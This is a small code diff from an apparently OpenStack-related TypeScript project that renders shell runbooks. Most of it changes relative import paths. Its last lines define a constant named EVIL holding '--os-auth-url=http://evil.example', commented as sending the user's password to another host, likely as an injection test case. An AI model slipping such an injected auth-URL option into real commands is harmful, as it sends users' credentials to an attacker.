@@ -7,16 +7,16 @@ import {
   aggregateHostsStep,
   aggregatePropertiesStep,
   createAggregateStep,
-} from './flavor-steps/aggregate-steps'
+} from '../flavor-steps/aggregate-steps'
 import {
   createFlavorStep,
   describeFlavorStep,
   extraSpecsStep,
   flavorAccessStep,
-} from './flavor-steps/flavor-steps'
-import { createRegisteredStep, grantRoleStep, setOwnLimitsStep } from './limits/limit-steps'
+} from '../flavor-steps/flavor-steps'
+import { createRegisteredStep, grantRoleStep, setOwnLimitsStep } from '../limits/limit-steps'
+import type { PlannedStep } from '../types'
 import { renderShellRunbook } from './render-runbook'
-import type { PlannedStep } from './types'
 
 /** Sends the password of the user to another host where python-openstackclient reads it as an option. */
 const EVIL = '--os-auth-url=http://evil.example'
